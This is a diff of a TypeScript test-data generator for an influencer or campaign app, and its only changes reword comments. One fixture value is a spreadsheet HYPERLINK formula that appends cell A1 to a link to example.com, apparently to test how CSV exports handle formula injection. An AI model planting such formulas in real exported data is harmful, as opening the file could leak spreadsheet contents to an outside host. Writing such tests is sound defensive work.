@@ -32,7 +32,7 @@ const towns = "Innsbruck, Austria|Boulder, CO|Bergen|Zürich|Leeds, UK|São Paul
 const mottos = "Slow is smooth|Carpe diem, carpe coffee|Leave it better|One more bend…".split("|");
 const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linkedin".split("|");
 
-/** The introduction of one host is a spreadsheet formula, to test CSV exports. */
+/** One host's introduction is a spreadsheet formula, to test CSV exports. */
 const formula = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
 
 export function createPerson(seed: number, index: number): Person {
@@ -70,13 +70,13 @@ function createSocials(random: RandomStream, handle: string): Record<string, str
   return Object.fromEntries(names.map((name) => [name, `https://${name}.example.com/${handle}`]));
 }
 
-/** Returns the `host` of orders, analytics and assignments. */
+/** Returns the `host` object used in orders, analytics and assignments. */
 export function toHost({ profile }: Person): Host {
   const { id, username, first_name, last_name, profile_photo } = profile;
   return { id, username, first_name, last_name, profile_photo };
 }
 
-/** Returns the `host` of library files. */
+/** Returns the `host` object used in library files. */
 export function toContentHost({ id, username, first_name, last_name }: Host): ContentItem["host"] {
   const name = [first_name, last_name].filter((part) => part !== null).join(" ");
   return { id, username, name: name === "" ? null : name };
@@ -104,7 +104,7 @@ export function createRosterEntry(
   };
 }
 
-/** Counts a host's assignments by status. Returns null for some hosts without assignments. */
+/** Counts a host's assignments by status. Returns null for some of the hosts who have no assignments. */
 function campaignsOf(hostId: string, opportunities: readonly Campaign[]): RosterEntry["campaigns"] {
   const counts = { PROPOSED: 0, ACTIVE: 0, COMPLETED: 0, DECLINED: 0 };
   const all = opportunities.flatMap(({ assignments }) => assignments);
